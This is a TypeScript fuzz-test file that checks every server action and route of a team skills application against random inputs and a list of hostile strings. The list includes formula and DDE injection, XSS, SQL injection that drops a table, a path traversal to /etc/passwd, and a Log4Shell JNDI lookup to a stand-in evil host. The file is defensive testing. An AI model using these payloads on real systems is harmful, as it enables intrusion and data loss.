import { randomUUID } from "node:crypto";
import { sql } from "drizzle-orm";
import fc from "fast-check";
import { beforeAll, expect, it } from "vitest";

import { demoTeamId, demoUserId } from "@/db/seed/demo";
import type { Viewer } from "@/lib/auth/viewer";
import { createPersonalToken, createServiceToken, revokeApiToken } from "@/lib/data/api-tokens";
import { exportAuditEvents, listAuditEvents } from "@/lib/data/audit-log";
import { closeCycle, openCycle, reopenCycle } from "@/lib/data/cycles";
import { setGroupMapping } from "@/lib/data/directory";
import { getPlanningDataset } from "@/lib/data/exports";
import {
  createDraft,
  discardDraft,
  importFramework,
  moveDraftSkill,
  publishDraft,
  switchTeamVersion,
  updateDraftSkill,
} from "@/lib/data/framework-admin";
import { getTeamHeatmap, getTeamHeatmapJson, getTeamPageSummary } from "@/lib/data/heatmap";
import { importRatings } from "@/lib/data/import";
import { addLearningResource, getResourcesForSkills, removeLearningResource } from "@/lib/data/learning-resources";
import { setMyLocale } from "@/lib/data/locale-preference";
import {
  getDeliveryStatus,
  readUnsubscribeLink,
  retryNotification,
  setMyEmailPreference,
  unsubscribeWithLink,
  updateEmailSchedule,
} from "@/lib/data/notifications";
import { findPeople } from "@/lib/data/people";
import { getPersonPage } from "@/lib/data/person";
import { confirmStaleRatings, saveSelfRating, validateRating } from "@/lib/data/ratings";
import { createScimToken, revokeScimToken } from "@/lib/data/scim-tokens";
import { updateOrgSetting } from "@/lib/data/settings";
import { getSkillPage } from "@/lib/data/skill-page";
import { proposeProjectStaffing, saveStaffingPlan } from "@/lib/data/staffing";
import {
  addTeamMember,
  archiveTeam,
  createTeam,
  removeTeamMember,
  updateTeam,
  updateTeamMember,
} from "@/lib/data/team-admin";
import { moveTeamsToLatestVersion } from "@/lib/data/team-versions";
import { revokeUserSessions, setUserDisabled, setUserRole } from "@/lib/data/users";
import { acceptPlanItem, archiveTarget, createTarget, getTeamVision } from "@/lib/data/vision";
import {
  disableWebhook,
  enableWebhook,
  listWebhookDeliveries,
  redeliverWebhook,
  registerWebhook,
} from "@/lib/data/webhooks";
import { AppError } from "@/lib/errors";

import { demoViewer, seedDemoOrg } from "./support/demo";
import { describeOnEachEngine } from "./support/engines";
import { rowsOf } from "./support/fingerprint";
import { GIT } from "./support/frameworks";

/*
 * Bad input everywhere: every server action's and route's data-access entry
 * point gets 1,000 arbitrary inputs (fast-check) as an admin, plus a fixed
 * list of hostile strings in each string field of a valid input. Every call
 * must end in a typed AppError or succeed; never an unexpected error. When
 * every call was refused, the database must hold exactly the same rows.
 */
type Entry = { name: string; call: (v: Viewer, input: unknown) => Promise<unknown>; template: Record<string, unknown> };

const HOSTILE = [
  "=1+1",
  '=HYPERLINK("http://evil.example","x")',
  "+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "'; drop table ratings; --",
  "1 OR 1=1",
  "\u0000\u0001",
  "\ud800",
  "🧠".repeat(5000),
  "x".repeat(100_000),
  "../../../../etc/passwd",
  "${jndi:ldap://evil.example/a}",
  "null",
  "",
];

describeOnEachEngine("fuzzing every action and route input", ({ handle }) => {
  let admin: Viewer;
  const entries: Entry[] = [];
  const totalRows = async () =>
    rowsOf(
      await handle().db.execute(
        sql`select (select count(*) from ratings) + (select count(*) from audit_events) + (select count(*) from teams) + (select count(*) from team_members) + (select count(*) from users) + (select count(*) from team_targets) + (select count(*) from plan_items) + (select count(*) from framework_versions) + (select count(*) from assessment_cycles) + (select count(*) from org_settings) as n`,
      ),
    )[0]!.n;

  beforeAll(async () => {
    await seedDemoOrg(handle());
    admin = await demoViewer("mei-ling.chen@acme.test");
    const team = demoTeamId("ml-platform");
    const user = demoUserId("sofia.rossi@acme.test");
    const fw = "00000000-0000-4000-8000-000000000000";
    entries.push(
      {
        name: "saveSelfRating",
        call: saveSelfRating,
        template: { skillKey: "x", value: 3, interest: 1, evidence: "note", requestId: randomUUID() },
      },
      { name: "confirmStaleRatings", call: confirmStaleRatings, template: { skillKeys: ["x"] } },
      { name: "setMyLocale", call: setMyLocale, template: { locale: "en" } },
      {
        name: "validateRating",
        call: validateRating,
        template: { teamId: team, userId: user, skillKey: "x", proficiency: 2, comment: "c", requestId: randomUUID() },
      },
      { name: "setUserRole", call: setUserRole, template: { userId: user, role: "member" } },
      { name: "setUserDisabled", call: setUserDisabled, template: { userId: user, disabled: false } },
      { name: "revokeUserSessions", call: revokeUserSessions, template: { userId: user } },
      { name: "createTeam", call: createTeam, template: { name: "n", description: "d" } },
      {
        name: "updateTeam",
        call: updateTeam,
        template: { teamId: team, name: "n", description: "d", lockVersion: 999 },
      },
      { name: "archiveTeam", call: archiveTeam, template: { teamId: randomUUID() } },
      { name: "addTeamMember", call: addTeamMember, template: { teamId: team, email: "a@b" } },
      { name: "removeTeamMember", call: removeTeamMember, template: { teamId: team, userId: randomUUID() } },
      {
        name: "updateTeamMember",
        call: updateTeamMember,
        template: { teamId: team, userId: user, currentLevelKey: "x" },
      },
      { name: "updateOrgSetting", call: updateOrgSetting, template: { key: "membersSeeTeamHeatmap", value: "x" } },
      {
        name: "createTarget",
        call: createTarget,
        template: { teamId: team, kind: "skill", key: "x", level: 3, headcount: 2, targetQuarter: "1999-Q1" },
      },
      { name: "archiveTarget", call: archiveTarget, template: { teamId: team, targetId: randomUUID() } },
      {
        name: "acceptPlanItem",
        call: acceptPlanItem,
        template: { teamId: team, targetId: randomUUID(), skillKey: "x" },
      },
      { name: "openCycle", call: openCycle, template: { quarter: "x", startsOn: "x", endsOn: "x" } },
      { name: "closeCycle", call: closeCycle, template: { cycleId: randomUUID() } },
      { name: "reopenCycle", call: reopenCycle, template: { cycleId: randomUUID() } },
      { name: "moveTeamsToLatestVersion", call: moveTeamsToLatestVersion, template: { frameworkId: fw } },
      { name: "importFramework", call: importFramework, template: { format: "markdown", content: "x", apply: true } },
      { name: "createDraft", call: createDraft, template: { frameworkId: fw } },
      {
        name: "updateDraftSkill",
        call: updateDraftSkill,
        template: {
          frameworkId: fw,
          skillKey: "x",
          nameEn: "n",
          nameZh: "n",
          descriptionEn: "",
          descriptionZh: "",
          categoryKey: "x",
          retired: false,
          lockVersion: 1,
        },
      },
      { name: "moveDraftSkill", call: moveDraftSkill, template: { frameworkId: fw, skillKey: "x", direction: "up" } },
      { name: "publishDraft", call: publishDraft, template: { frameworkId: fw } },
      { name: "discardDraft", call: discardDraft, template: { frameworkId: fw, lockVersion: 1 } },
      { name: "switchTeamVersion", call: switchTeamVersion, template: { teamId: team, versionId: randomUUID() } },
      {
        name: "importRatings (route)",
        call: importRatings,
        template: { mode: "apply", filename: "x.csv", bytes: new TextEncoder().encode("email\nx@y\n") },
      },
      {
        name: "getPlanningDataset (route)",
        call: (v, i) => getPlanningDataset(v, i, { locale: "en" }),
        template: { scope: "team", teamId: team, format: "json" },
      },
      {
        name: "getTeamHeatmap",
        call: (v, i) => getTeamHeatmap(v, i, { locale: "en" }),
        template: { teamId: team, quarter: null },
      },
      {
        name: "getTeamHeatmapJson",
        call: (v, i) => getTeamHeatmapJson(v, i, { locale: "en" }),
        template: { teamId: team, quarter: null },
      },
      {
        name: "getTeamPageSummary",
        call: (v, i) => getTeamPageSummary(v, i, { locale: "en" }),
        template: { teamId: team, quarter: "2026-Q1" },
      },
      {
        name: "getTeamVision",
        call: (v, i) => getTeamVision(v, i, { locale: "en" }),
        template: { teamId: team, quarter: "2026-Q1" },
      },
      { name: "getPersonPage", call: (v, i) => getPersonPage(v, i, { locale: "en" }), template: { id: user } },
      { name: "listAuditEvents", call: (v, i) => listAuditEvents(v, i), template: { action: "x" } },
      { name: "exportAuditEvents (route)", call: (v, i) => exportAuditEvents(v, i), template: { action: "x" } },
      {
        name: "proposeProjectStaffing (page and CSV route)",
        call: (v, i) => proposeProjectStaffing(v, i, { locale: "en" }),
        template: { r: `mlops-engineer/${GIT}~3~2`, exclude: team, max: "3", harm: "1" },
      },
      {
        name: "saveStaffingPlanAction",
        call: (v, i) => saveStaffingPlan(v, i),
        template: { name: "Plan", query: `r=mlops-engineer/${GIT}~3~2` },
      },
      {
        name: "findPeople (page and CSV route)",
        call: (v, i) => findPeople(v, i, { locale: "en" }),
        template: { r: `mlops-engineer/${GIT}~3~i`, team, level: "senior", validated: "1", fresh: "1" },
      },
      {
        name: "getSkillPage",
        call: (v, i) => getSkillPage(v, i, { locale: "en" }),
        template: { key: GIT, roadmap: "x" },
      },
      { name: "getResourcesForSkills", call: getResourcesForSkills, template: { frameworkId: fw, skillKeys: ["x"] } },
      {
        name: "addLearningResource",
        call: addLearningResource,
        template: { frameworkKey: "mlops-engineer", skillKey: GIT, title: "t", url: "https://example.com/", note: "n" },
      },
      { name: "removeLearningResource", call: removeLearningResource, template: { id: randomUUID() } },
      { name: "createScimToken", call: createScimToken, template: { name: "IdP", expiresInDays: 30 } },
      { name: "revokeScimToken", call: revokeScimToken, template: { tokenId: randomUUID() } },
      {
        name: "createPersonalTokenAction",
        call: createPersonalToken,
        template: { name: "Laptop", scopes: ["read"], expiresInDays: 30 },
      },
      {
        name: "createServiceTokenAction",
        call: createServiceToken,
        template: { name: "BI", scopes: ["read"], teamIds: [team], expiresInDays: 30 },
      },
      { name: "revokeApiTokenAction", call: revokeApiToken, template: { tokenId: randomUUID() } },
      {
        name: "setGroupMapping",
        call: setGroupMapping,
        template: { groupId: randomUUID(), teamId: team, role: "manager" },
      },
      {
        name: "setEmailPreferenceAction",
        call: setMyEmailPreference,
        template: { kind: "cycle_opened", enabled: true },
      },
      { name: "retryNotificationAction", call: retryNotification, template: { notificationId: randomUUID() } },
      {
        name: "updateEmailScheduleAction",
        call: updateEmailSchedule,
        template: { timeZone: "Asia/Taipei", reminderDays: [7, 2], digestWeekday: 1, hour: 9 },
      },
      { name: "getDeliveryStatus", call: getDeliveryStatus, template: { status: "problems", kind: "cycle_opened" } },
      {
        name: "registerWebhookAction",
        call: registerWebhook,
        template: { url: "https://hooks.example.com/fuzz", description: "Fuzz", events: ["cycle.opened"] },
      },
      { name: "disableWebhookAction", call: disableWebhook, template: { endpointId: randomUUID() } },
      { name: "enableWebhookAction", call: enableWebhook, template: { endpointId: randomUUID() } },
      { name: "redeliverWebhookAction", call: redeliverWebhook, template: { deliveryId: randomUUID() } },
      { name: "listWebhookDeliveries", call: listWebhookDeliveries, template: { endpointId: randomUUID(), page: 1 } },
      // Signed out, as from an email: the token is the whole input.
      {
        name: "readUnsubscribeLink (page)",
        call: (_v, i) => readUnsubscribeLink(i),
        template: { token: `${user}.x.y` },
      },
      {
        name: "unsubscribeWithLink (route)",
        call: (_v, i) => unsubscribeWithLink(i),
        template: { token: `${user}.cycle_opened.AAAA` },
      },
    );
  });

  const expectTyped = (e: unknown, name: string) => {
    if (!(e instanceof AppError))
      throw new Error(`${name}: unexpected ${e instanceof Error ? `${e.name}: ${e.message}` : String(e)}`);
  };

  it("1,000 arbitrary inputs per entry point: only typed errors, and nothing written when refused", async () => {
    let cases = 0;
    for (const entry of entries) {
      const before = await totalRows();
      let succeeded = 0;
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(
            fc.anything(),
            fc.object(),
            fc.dictionary(fc.constantFrom(...Object.keys(entry.template)), fc.anything()),
          ),
          async (input) => {
            cases++;
            try {
              await entry.call(admin, input);
              succeeded++;
            } catch (e) {
              expectTyped(e, entry.name);
            }
          },
        ),
        { numRuns: 1000 },
      );
      if (succeeded === 0) expect(await totalRows(), entry.name).toBe(before);
    }
    expect(cases).toBeGreaterThanOrEqual(1000 * entries.length);
  }, 240_000);

  it("hostile strings in every string field: typed errors only, and nothing written when refused", async () => {
    for (const entry of entries) {
      for (const [field, value] of Object.entries(entry.template)) {
        if (typeof value !== "string") continue;
        for (const hostile of HOSTILE) {
          const before = await totalRows();
          try {
            await entry.call(admin, { ...entry.template, [field]: hostile });
          } catch (e) {
            expectTyped(e, `${entry.name}.${field}`);
            expect(await totalRows(), `${entry.name}.${field} = ${JSON.stringify(hostile.slice(0, 30))}`).toBe(before);
          }
        }
      }
    }
  }, 240_000);
});
